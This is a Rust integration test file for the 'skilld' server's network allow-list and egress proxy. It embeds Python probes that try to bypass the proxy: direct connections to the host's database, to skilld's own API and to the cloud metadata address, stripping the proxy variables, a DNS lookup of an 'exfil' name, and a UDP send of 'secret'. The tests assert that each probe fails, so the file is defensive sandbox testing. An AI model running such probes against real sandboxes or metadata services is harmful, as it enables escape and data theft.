//! `network: {allow: [...]}` through a real `skilld serve` (issue 42): a
//! tool's run gets a network of its own whose one way out is skilld's
//! proxy, which lets through the list and nothing else. Each attack is one
//! a tool would try: go around the proxy, ask it for a name off the list,
//! or for a listed name that leads to the host. Upstreams listen on
//! 127.0.0.2, the one range the server is told it may reach.

use crate::common::{Served, invoke_envelope, tempdir, write_file};
use serde_json::{Value, json};
use std::path::Path;

/// Skips a test that needs root (network namespaces), except under CI.
fn needs_root() -> bool {
    if nix::unistd::geteuid().is_root() {
        return false;
    }
    assert!(std::env::var_os("CI").is_none(), "CI runs as root");
    eprintln!("skipped: needs root");
    true
}

/// A skill `fetcher` whose tool runs the Python it is given, allowed to
/// reach `allow`.
fn fetcher(dir: &Path, allow: &[String]) {
    crate::common::one_tool_skill(
        dir,
        "fetcher",
        &format!("network:\n  allow: [{}]\n", quoted(allow)),
        "code",
        "python3 -c {{code}}",
    );
}

fn quoted(patterns: &[String]) -> String {
    patterns
        .iter()
        .map(|p| format!("\"{p}\""))
        .collect::<Vec<_>>()
        .join(", ")
}

/// Config: `api.test` and `evil.test` are pinned to the upstream's
/// address and to the host's loopback; 127.0.0.2 may be reached; what a
/// list lacks is refused at once, no one asked (`egress_ask.rs` asks).
const CONFIG: &str = "egress_wait_secs = 0\n[egress]\nallow_ranges = [\"127.0.0.2/32\"]\n\
                      [egress.hosts]\n\"api.test\" = [\"127.0.0.2\"]\n\"evil.test\" = [\"127.0.0.1\"]\n";

/// Python that fetches `url` as any HTTP client would (urllib follows the
/// proxy variables), printing `status body`.
fn fetch(url: &str) -> String {
    format!(
        "import urllib.request, urllib.error\n\
         try:\n    r = urllib.request.urlopen({url:?}, timeout=10); print(r.status, r.read().decode())\n\
         except urllib.error.HTTPError as e:\n    print(e.code, e.read().decode())\n\
         except Exception as e:\n    print('error', e)\n"
    )
}

/// Python that opens a TCP connection to each address directly, printing
/// `ok` or the error's name for each.
fn connect_directly(addrs: &[String]) -> String {
    let list = addrs
        .iter()
        .map(|a| format!("{a:?}"))
        .collect::<Vec<_>>()
        .join(", ");
    format!(
        "import socket, errno\n\
         for a in [{list}]:\n\
         \x20   host, port = a.rsplit(':', 1)\n\
         \x20   try:\n\
         \x20       socket.create_connection((host, int(port)), timeout=3); print(a, 'ok')\n\
         \x20   except OSError as e:\n\
         \x20       print(a, errno.errorcode.get(e.errno, str(e)))\n"
    )
}

async fn run(server: &Served, code: &str) -> Value {
    let envelope = invoke_envelope(&server.addr, "fetcher", None, json!({ "code": code })).await;
    assert_eq!(envelope["success"], true, "{envelope}");
    envelope
}

/// `skilld_egress_requests_total` of `skill` and `verdict` in the
/// server's `/metrics`.
async fn egress_count(server: &Served, skill: &str, verdict: &str) -> f64 {
    let metrics = reqwest::get(format!("{}/metrics", server.base()))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let line = metrics
        .lines()
        .find(|l| {
            l.starts_with("skilld_egress_requests_total")
                && l.contains(&format!("skill=\"{skill}\""))
                && l.contains(&format!("verdict=\"{verdict}\""))
        })
        .unwrap_or_else(|| panic!("no {skill} {verdict} line in:\n{metrics}"));
    line.rsplit(' ').next().unwrap().parse().unwrap()
}

fn output(envelope: &Value) -> &str {
    envelope["output"].as_str().unwrap_or_default()
}

#[tokio::test]
async fn a_listed_name_is_reached_and_recorded_and_nothing_else_is() {
    if needs_root() {
        return;
    }
    let up = crate::common::egress_upstream().await;
    let skills = tempdir().unwrap();
    let allowed = format!("api.test:{}", up.port());
    fetcher(
        skills.path(),
        &[allowed.clone(), format!("evil.test:{}", up.port())],
    );
    let server = Served::start(skills.path(), CONFIG);

    // The control: the listed name, through the proxy the run is given.
    let ok = run(&server, &fetch(&format!("http://{allowed}/hello"))).await;
    assert_eq!(output(&ok).trim(), format!("200 host={allowed}"), "{ok}");
    let lines = ok["egress"]
        .as_array()
        .expect("the envelope lists where the run went");
    assert_eq!(lines.len(), 1, "{ok}");
    assert_eq!(lines[0]["host"], "api.test");
    assert_eq!(lines[0]["port"], up.port());
    assert_eq!(
        (lines[0]["allowed"].as_u64(), lines[0]["denied"].as_u64()),
        (Some(1), Some(0))
    );
    assert!(lines[0]["bytes_in"].as_u64().unwrap() > 0, "{ok}");
    // The run log keeps it.
    let id = ok["run_id"].as_str().unwrap();
    let kept: Value = server.get_json(&format!("/runs/{id}")).await;
    assert_eq!(kept["result"]["egress"], ok["egress"], "{kept}");

    // A name off the list: refused, in words a model can act on.
    let off = run(&server, &fetch(&format!("http://other.test:{}/", up.port()))).await;
    let text = output(&off);
    assert!(text.starts_with("403 "), "{off}");
    assert!(text.contains("other.test") && text.contains("network"), "{off}");

    // skilld's own API, asked of the proxy by its address: refused, so a
    // tool cannot file held calls or steer its session through it.
    let api = run(&server, &fetch(&format!("http://{}/healthz", server.addr))).await;
    assert!(output(&api).starts_with("403 "), "{api}");

    // git, a client of its own, follows the same variables to the same
    // refusal.
    let git = format!(
        "import subprocess\nr = subprocess.run(['git', 'ls-remote', 'http://other.test:{}/repo.git'], \
         capture_output=True, text=True)\nprint(r.returncode, r.stderr)\n",
        up.port()
    );
    let git = run(&server, &git).await;
    assert!(output(&git).contains("403"), "{git}");

    // Prometheus counts them by skill and verdict (not by destination).
    assert!(egress_count(&server, "fetcher", "allowed").await >= 1.0);
    assert!(egress_count(&server, "fetcher", "denied").await >= 1.0);

    // A listed name that leads to the host's loopback: refused.
    let evil = run(&server, &fetch(&format!("http://evil.test:{}/", up.port()))).await;
    assert!(!output(&evil).contains("host="), "the host was reached: {evil}");
    assert!(!output(&evil).starts_with("200"), "{evil}");
}

#[tokio::test]
async fn a_run_cannot_go_around_the_proxy() {
    if needs_root() {
        return;
    }
    let up = crate::common::egress_upstream().await;
    let skills = tempdir().unwrap();
    fetcher(skills.path(), &[format!("api.test:{}", up.port())]);
    let server = Served::start(skills.path(), CONFIG);
    let targets = [
        up.to_string(),
        // The host's PostgreSQL, skilld's own API, the metadata service.
        "127.0.0.1:5432".to_owned(),
        server.addr.clone(),
        "169.254.169.254:80".to_owned(),
    ];
    // The control, in the same run: a socket does connect, to the proxy.
    let control = "import os\nhost, port = os.environ['http_proxy'].split('//')[1].strip('/').rsplit(':', 1)\n\
                   socket.create_connection((host, int(port)), timeout=3); print('proxy ok')\n";
    let direct = run(&server, &(connect_directly(&targets) + control)).await;
    assert!(output(&direct).contains("proxy ok"), "{direct}");
    for target in &targets {
        let line = output(&direct)
            .lines()
            .find(|l| l.starts_with(target.as_str()))
            .unwrap_or_else(|| panic!("no line for {target}: {direct}"));
        assert!(
            !line.ends_with(" ok"),
            "{target} was reached around the proxy: {direct}"
        );
    }
    // The variables cannot be unset into a way out either: without them a
    // client has no route at all.
    let code = format!(
        "import os\nfor k in list(os.environ):\n    if k.lower().endswith('_proxy'): del os.environ[k]\n{}",
        fetch(&format!("http://api.test:{}/", up.port()))
    );
    let bare = run(&server, &code).await;
    assert!(output(&bare).starts_with("error"), "{bare}");

    // Neither DNS, nor UDP, nor IPv6 is a way out. (No packet can leave:
    // the namespace has no interface but loopback, and 192.0.2.0/24 and
    // 2001:db8::/32 are documentation ranges.)
    let others = run(&server, OTHER_WAYS).await;
    for way in ["dns", "udp", "ipv6 loopback", "ipv6"] {
        let line = output(&others)
            .lines()
            .find(|l| l.starts_with(&format!("{way}:")))
            .unwrap_or_else(|| panic!("no line for {way}: {others}"));
        assert!(!line.ends_with(": ok"), "{way} got out: {others}");
    }
}

/// Python trying the ways out that are not TCP to an IPv4 address.
const OTHER_WAYS: &str = r#"
import socket
def attempt(name, f):
    try:
        f()
        print(name + ": ok")
    except OSError as e:
        print(name + ": " + type(e).__name__ + " " + str(e))
attempt("dns", lambda: socket.getaddrinfo("exfil-1234.example.com", 80))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"secret", ("192.0.2.1", 53))
    s.settimeout(2)
    s.recvfrom(10)
attempt("udp", udp)
attempt("ipv6 loopback", lambda: socket.create_connection(("::1", 5432), timeout=3))
attempt("ipv6", lambda: socket.create_connection(("2001:db8::1", 443), timeout=3))
"#;

#[tokio::test]
async fn a_bad_pattern_is_named_where_the_skill_is_listed() {
    let skills = tempdir().unwrap();
    fetcher(skills.path(), &["https://api.test/v1".to_owned()]);
    let server = Served::start(skills.path(), "");
    let diagnostics = server.get_json("/diagnostics").await;
    let text = diagnostics.to_string();
    assert!(text.contains("network.allow"), "{text}");
    assert!(text.contains("write the host alone"), "{text}");
}

#[tokio::test]
async fn a_manifest_says_it_as_the_frontmatter_does() {
    let skills = tempdir().unwrap();
    let allow = [
        "api.github.com".to_owned(),
        "*.githubusercontent.com:443".to_owned(),
    ];
    fetcher(skills.path(), &allow);
    // A prompt manifest: no backend to start, the same field to read.
    write_file(
        &skills.path().join("notes/SKILL.yaml"),
        &format!(
            "name: notes\nversion: 1.0.0\ndescription: Notes.\ntypes: [prompt]\n\
             network:\n  allow: [{}]\nprompt:\n  system_prompt_file: system.md\n",
            quoted(&allow)
        ),
    );
    write_file(&skills.path().join("notes/system.md"), "Take notes.\n");
    let server = Served::start(skills.path(), "");
    for name in ["fetcher", "notes"] {
        let detail: Value = server.get_json(&format!("/skills/{name}")).await;
        assert_eq!(detail["network"], true, "{detail}");
        assert_eq!(detail["network_allow"], json!(allow), "{detail}");
    }
}

/// A server that is not root (the quick start on a laptop) makes each
/// run's namespace inside the runs' user namespace: the list holds there
/// too, and going around the proxy still finds no route.
#[tokio::test]
async fn a_server_that_is_not_root_keeps_the_list_too() {
    use std::os::unix::fs::chown;
    if needs_root() || !Path::new("/usr/bin/setpriv").exists() {
        assert!(std::env::var_os("CI").is_none(), "CI has setpriv");
        return;
    }
    let up = crate::common::egress_upstream().await;
    let skills = tempdir().unwrap();
    let allowed = format!("api.test:{}", up.port());
    fetcher(skills.path(), std::slice::from_ref(&allowed));
    let data = tempdir().unwrap();
    chown(data.path(), Some(65534), Some(65534)).unwrap();
    let config = data.path().join("skilld.toml");
    std::fs::write(&config, CONFIG).unwrap();
    let mut cmd = crate::common::serve_as_nobody(skills.path(), data.path(), data.path());
    cmd.arg("--config").arg(&config);
    let (child, addr) = crate::common::serve(&mut cmd);

    let ready: Value = reqwest::get(format!("http://{addr}/readyz"))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let invoke = |code: String| {
        let addr = addr.clone();
        async move { invoke_envelope(&addr, "fetcher", None, json!({ "code": code })).await }
    };
    let ok = invoke(fetch(&format!("http://{allowed}/hello"))).await;
    let off = invoke(fetch(&format!("http://other.test:{}/", up.port()))).await;
    let direct = invoke(connect_directly(&[up.to_string(), "127.0.0.1:5432".to_owned()])).await;
    assert!(crate::common::stop(child).success());

    assert_eq!(ready["sandbox"]["egress"], "proxy", "{ready}");
    assert_eq!(output(&ok).trim(), format!("200 host={allowed}"), "{ok}");
    assert!(output(&off).starts_with("403 "), "{off}");
    for line in output(&direct).lines() {
        assert!(!line.ends_with(" ok"), "reached around the proxy: {direct}");
    }
    assert_eq!(output(&direct).lines().count(), 2, "{direct}");
}

/// A Starlark `fetch()` of a `network.allow` skill goes by the same rules
/// as a run's proxy: the listed name, at an address the proxy would
/// accept, and nothing else.
#[tokio::test]
async fn a_starlark_fetch_keeps_to_the_list() {
    let up = crate::common::egress_upstream().await;
    let skills = tempdir().unwrap();
    let script = "def get(args):\n    return fetch(args[\"url\"])\n\
                  register_tool(\"get\", \"Fetches.\", {\"type\": \"object\"}, get)\n";
    let allow = format!(
        "network:\n  allow: [\"api.test:{0}\", \"evil.test:{0}\"]\n",
        up.port()
    );
    crate::common::star_skill(
        skills.path(),
        "web",
        &format!("read_only: true\npermissions: [net:fetch]\n{allow}"),
        script,
    );
    let server = Served::start(skills.path(), CONFIG);
    let get = |url: String| {
        let addr = server.addr.clone();
        async move { invoke_envelope(&addr, "get", None, json!({ "url": url })).await }
    };
    let ok = get(format!("http://api.test:{}/hello", up.port())).await;
    assert_eq!(
        ok["parsed"],
        json!({"status": 200, "body": format!("host=api.test:{}", up.port()), "success": true}),
        "{ok}"
    );
    for (url, why) in [
        (format!("http://other.test:{}/", up.port()), "is not listed"),
        (format!("http://{up}/"), "is not listed"),
        (format!("http://evil.test:{}/", up.port()), "127.0.0.1"),
        (format!("http://api.test:{}/", up.port() ^ 1), "is not listed"),
    ] {
        let refused = get(url.clone()).await;
        assert_eq!(refused["success"], false, "{url}: {refused}");
        assert!(refused.to_string().contains(why), "{url}: {refused}");
    }
    assert_eq!(egress_count(&server, "web", "allowed").await, 1.0);
    assert_eq!(egress_count(&server, "web", "denied").await, 4.0);
}

/// A process backend that runs Python's urllib on each call: `url`
/// fetched through whatever proxy its environment names, or around it
/// when the URL starts with `direct:`.
const FETCHING_BACKEND: &str = r#"import json, sys, urllib.request, urllib.error
TOOLS = [{"name": "get", "description": "Fetches.",
          "input_schema": {"type": "object", "properties": {"url": {"type": "string"}}}}]
def get(url):
    opener = urllib.request.build_opener()
    if url.startswith("direct:"):
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        url = url[len("direct:"):]
    try:
        r = opener.open(url, timeout=10)
        return "%d %s" % (r.status, r.read().decode())
    except urllib.error.HTTPError as e:
        return "%d %s" % (e.code, e.read().decode())
    except Exception as e:
        return "error %s" % e
for line in sys.stdin:
    req = json.loads(line)
    m, p = req["method"], req.get("params") or {}
    if m == "initialize":
        result = {"tools": TOOLS}
    elif m == "tool/execute":
        result = {"output": get(p["input"]["url"]), "success": True}
    else:
        result = None
    print(json.dumps({"jsonrpc": "2.0", "id": req["id"], "result": result}), flush=True)
    if m == "shutdown":
        break
"#;

/// A long-lived process backend with a list gets a namespace and a proxy
/// of its own for its whole life: the same rules as a tool's run.
#[tokio::test]
async fn a_process_backend_keeps_to_its_list() {
    if needs_root() {
        return;
    }
    let up = crate::common::egress_upstream().await;
    let skills = tempdir().unwrap();
    let allowed = format!("api.test:{}", up.port());
    write_file(
        &skills.path().join("getter/SKILL.yaml"),
        &format!(
            "name: getter\nversion: 1.0.0\ndescription: Fetches.\ntypes: [tool]\nread_only: true\n\
             permissions: [shell:exec, net:fetch]\nnetwork:\n  allow: [\"{allowed}\"]\n\
             implementation:\n  backend: process\n  entrypoint: main.py\n"
        ),
    );
    write_file(&skills.path().join("getter/main.py"), FETCHING_BACKEND);
    let server = Served::start(skills.path(), CONFIG);
    let get = |url: String| {
        let addr = server.addr.clone();
        async move { invoke_envelope(&addr, "get", None, json!({ "url": url })).await }
    };
    let ok = get(format!("http://{allowed}/hello")).await;
    assert_eq!(output(&ok), format!("200 host={allowed}"), "{ok}");
    let off = get(format!("http://other.test:{}/", up.port())).await;
    assert!(output(&off).starts_with("403 "), "{off}");
    let by_address = get(format!("http://{up}/")).await;
    assert!(output(&by_address).starts_with("403 "), "{by_address}");
    // Around the proxy there is no route, to the upstream or the host.
    for target in [up.to_string(), server.addr.clone()] {
        let around = get(format!("direct:http://{target}/")).await;
        assert!(output(&around).starts_with("error "), "{target}: {around}");
    }
}
